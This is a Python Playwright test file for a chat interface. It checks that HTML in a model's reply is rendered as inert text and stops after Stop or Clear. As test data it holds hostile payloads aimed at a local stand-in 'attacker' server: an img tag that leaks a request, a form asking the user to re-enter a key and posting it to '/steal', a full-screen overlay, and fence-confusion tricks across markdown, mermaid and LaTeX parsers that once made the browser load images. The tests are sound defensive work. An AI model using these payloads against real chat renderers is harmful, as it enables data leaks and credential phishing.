"""What a model writes is shown in the chat, never run: no image loads, no form, no overlay."""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.e2e.conftest import screenshot
from tests.e2e.test_tabs import send
from tests.upstream import FakeUpstream

pytestmark = pytest.mark.e2e

# Everything a page can do with rendered message HTML that it must not: load, submit, cover.
ACTIVE = """() => {
    const messages = [...document.querySelectorAll('#chatbot [data-testid]')]
        .filter(m => ['bot', 'user'].includes(m.dataset.testid));
    const inside = selector => messages.flatMap(m => [...m.querySelectorAll(selector)]);
    return {
        images: inside('img').map(i => i.getAttribute('src')),
        forms: inside('form, input, button:not(.copy_code_button)').map(e => e.outerHTML),
        styled: inside('.md [style]').map(e => e.outerHTML.slice(0, 120)),
        fixed: inside('*').filter(e => getComputedStyle(e).position === 'fixed').length,
        diagrams: inside('.mermaid, svg[aria-roledescription]').length,
    };
}"""
NOTHING_ACTIVE = {"images": [], "forms": [], "styled": [], "fixed": 0, "diagrams": 0}


class Recorder(http.server.BaseHTTPRequestHandler):
    """Records every request it gets: an image that loaded by itself shows up here."""

    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def leak_server() -> Iterator[tuple[str, list[str]]]:
    """A local "attacker" server: (its URL, the paths it was asked for)."""
    hits: list[str] = []
    handler = type("Handler", (Recorder,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    thread.join(timeout=5)


def watch_requests(page: Page, origin: str) -> list[str]:
    """URLs the page asked the attacker's server for (a second witness, from the browser)."""
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url) if origin in request.url else None)
    return seen


def replies(page: Page) -> Locator:
    """Each reply's bubble (a reply with a code block is several parts, each a "bot" message)."""
    return page.locator("#chatbot .bot-row")


def last_chat_request(upstream: FakeUpstream) -> list[dict[str, Any]]:
    calls = [r for r in upstream.requests if r["path"] == "/v1/chat/completions"]
    return calls[-1]["json"]["messages"]


def test_a_hostile_reply_is_shown_as_text_and_loads_nothing(
    page: Page, leak_server: tuple[str, list[str]]
) -> None:
    evil, hits = leak_server
    seen = watch_requests(page, evil)
    hostile = (
        "Hostile test\n"
        f'<img src="{evil}/leak-html.png"> and ![leak]({evil}/leak-markdown.png)\n'
        f'<form action="{evil}/steal"><input name="key" placeholder="Re-enter your key"></form>\n'
        '<div style="position:fixed;inset:0;background:crimson">covered</div>\n\n'
        "```python\nif a < b:\n    print('<ok>')\n```\n\n"
        "| language | generic list |\n|---|---|\n| Rust | `Vec<T>` |\n"
    )
    send(page, hostile)
    bot = replies(page).last
    expect(bot).to_contain_text("Echo: Hostile test")
    expect(page.locator("#chat-status")).to_contain_text("tokens")  # the whole reply is in

    # What the message said is there, as text.
    expect(bot).to_contain_text(f'<img src="{evil}/leak-html.png">')
    expect(bot).to_contain_text(f'<form action="{evil}/steal">')
    expect(bot).to_contain_text('<div style="position:fixed;inset:0;background:crimson">')
    expect(page.locator("#chatbot .user-row").last).to_contain_text(f'<form action="{evil}/steal">')
    # A Markdown image is a link to click, not an image.
    expect(bot.get_by_role("link", name="leak", exact=True)).to_have_attribute(
        "href", f"{evil}/leak-markdown.png"
    )
    # Code is code, with its "<" intact; the table is a table.
    code = bot.locator("pre code")
    expect(code).to_contain_text("if a < b:")
    expect(code).to_contain_text("print('<ok>')")
    expect(bot.locator("table")).to_have_count(1)
    expect(bot.locator("table code")).to_have_text("Vec<T>")

    assert page.evaluate(ACTIVE) == NOTHING_ACTIVE
    page.wait_for_timeout(300)  # an image would have been requested on insertion
    assert hits == [] and seen == [], "the page fetched from the attacker's server"
    screenshot(page, "chat-hostile")


# Fences shared with other text, where the browser's parser (marked, with Gradio's LaTeX and
# mermaid extensions) and ours disagree: each one made Chromium load the image before.
DISAGREEMENTS = {
    "mermaid": '```mermaid\ngraph TD\nA["<img src={evil}/mermaid.png>"]\n```',
    "closer": "```\n```~\n<img src={evil}/closer.png>\n```",
    "title": '[a]: /u "x\n```\n"\n<img src={evil}/title.png>\n```',
    "latex": "$$\n```\n$$\n<img src={evil}/latex.png>\n```",
    "indent": "```\n    ```\n    <img src={evil}/indent.png>",
}


def test_code_blocks_where_parsers_disagree_stay_code(
    page: Page, leak_server: tuple[str, list[str]]
) -> None:
    evil, hits = leak_server
    seen = watch_requests(page, evil)
    bots = replies(page)
    for name, attack in DISAGREEMENTS.items():
        # A blank line after "Echo: name" puts the attack where a reply's first block would be.
        send(page, f"{name}\n\n{attack.format(evil=evil)}")
        expect(bots.last).to_contain_text(f"{evil}/{name}.png")
        expect(page.get_by_role("textbox", name="Message")).to_have_value("")
    expect(page.locator("#chat-status")).to_contain_text("tokens")
    assert page.evaluate(ACTIVE) == NOTHING_ACTIVE
    page.wait_for_timeout(300)
    assert hits == [] and seen == []


def test_the_model_gets_the_raw_text_and_stop_keeps_what_was_shown(
    page: Page, upstream: FakeUpstream
) -> None:
    send(page, "Is `a<b` true? <b>bold</b>")
    bots = replies(page)
    expect(bots.last).to_contain_text("Echo: Is a<b true? <b>bold</b>")
    # The Chatbot shows escaped Markdown; the model sees exactly what was typed.
    assert last_chat_request(upstream)[-1] == {
        "role": "user",
        "content": "Is `a<b` true? <b>bold</b>",
    }

    long = " ".join(f"word{i}" for i in range(600))  # 600 chunks, 10 ms apart
    send(page, long)
    expect(bots.last).to_contain_text("Echo: word0 word1")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator("#chat-status")).to_contain_text("Stopped")
    page.wait_for_timeout(500)  # nothing more arrives after Stop
    shown = bots.last.inner_text().strip()
    assert shown.startswith("Echo: word0") and shown.endswith("(stopped)"), shown
    kept = shown.removesuffix("(stopped)").strip()
    assert not kept.endswith("word599"), kept

    send(page, "And now?")
    expect(bots.last).to_contain_text("Echo: And now?")
    messages = last_chat_request(upstream)
    assert [m["role"] for m in messages[-3:]] == ["user", "assistant", "user"]
    # The stopped reply went back to the model exactly as the page still shows it (without
    # the page's "(stopped)" mark).
    assert messages[-2]["content"].strip() == kept
    expect(bots.nth(-2)).to_have_text(re.compile(rf"^\s*{re.escape(kept)}\s*\(stopped\)\s*$"))


@pytest.mark.parametrize("how", ["New chat", "Clear"])
def test_clearing_the_chat_forgets_the_conversation(
    page: Page, upstream: FakeUpstream, how: str
) -> None:
    send(page, "Remember this")
    expect(replies(page).last).to_contain_text("Echo: Remember this")
    if how == "New chat":
        page.get_by_role("button", name="New chat").click()
    else:  # the Chatbot's own trash button
        page.locator("#chatbot").get_by_role("button", name="Clear").click()
    expect(replies(page)).to_have_count(0)
    send(page, "Fresh start")
    expect(replies(page).last).to_contain_text("Echo: Fresh start")
    assert last_chat_request(upstream) == [{"role": "user", "content": "Fresh start"}]
